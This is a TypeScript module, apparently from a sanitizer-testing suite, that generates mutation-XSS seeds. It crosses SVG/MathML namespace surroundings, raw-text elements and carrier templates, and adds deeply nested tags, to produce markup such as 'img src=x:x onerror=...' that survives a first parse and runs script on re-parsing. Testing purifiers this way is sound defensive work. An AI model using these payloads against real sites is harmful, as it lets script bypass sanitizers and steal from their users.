/** HTML that is harmless as first parsed and harmful as parsed again: namespaces, raw text, foster parents, depth. */
import type { Seed } from './html-seeds.js';

/** Surroundings in which the parser changes its rules. */
const SURROUNDINGS: readonly (readonly [open: string, close: string])[] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<svg></p>', '</svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi><mglyph>', '</mglyph></mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml encoding="text/html"><svg>', '</svg></annotation-xml></math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<form><math><mtext></form><form><mglyph>', '</form>'],
  ['<table><tr><td><svg>', '</svg></td></tr></table>'],
  ['<select>', '</select>'],
  ['<p><b><i>', '</p></b></i>'],
];

/** Elements whose content is not markup, or was not when it was first read. */
const RAW = [
  ['<style>', '</style>'],
  ['<xmp>', '</xmp>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<noscript>', '</noscript>'],
  ['<iframe>', '</iframe>'],
  ['<textarea>', '</textarea>'],
  ['<title>', '</title>'],
  ['<script>', '</script>'],
  ['<template>', '</template>'],
  ['<plaintext>', '</plaintext>'],
  ['<!--', '-->'],
  ['<![CDATA[', ']]>'],
] as const;

/** Ways to carry the closing tag and the payload past the first parse. */
const CARRIERS: readonly ((raw: readonly [string, string], call: string) => string)[] = [
  ([open, close], call) => `${open}<a title="${close}<img src=x:x onerror=${call}>">`,
  ([open, close], call) =>
    `${open}<!--${close}<img title="--&gt;&lt;img src=x:x onerror=${call}&gt;">`,
  ([open, close], call) => `<a title="${open}">${close}<img src=x:x onerror=${call}></a>`,
];

const inSurroundings = SURROUNDINGS.flatMap(([open, close]) =>
  RAW.flatMap((raw) =>
    CARRIERS.map(
      (carry): Seed =>
        (call) =>
          open + carry(raw, call) + close,
    ),
  ),
);

/** Below and above the depths at which parsers (512) and older purifiers (255) gave up; tables are too slow for that. */
const DEEP: readonly (readonly [tag: string, depths: readonly number[]])[] = [
  ['<b>', [60, 260, 520]],
  ['<div>', [60, 260, 520]],
  ['<svg>', [60, 260, 520]],
  ['<math><mtext>', [60, 260]],
  ['<font color=red>', [60, 260]],
  ['<table><td>', [30, 60]],
];

/** So deep that a parser flattens what a second parse unfolds. */
const deep = DEEP.flatMap(([tag, depths]) =>
  depths.map(
    (depth): Seed =>
      (call) =>
        `${tag.repeat(depth)}<style><img title="</style><img src=x:x onerror=${call}>">`,
  ),
);

/** Every surrounding with every raw text element and every carrier, then the deep ones. */
export const mutations: readonly Seed[] = [...inSurroundings, ...deep];
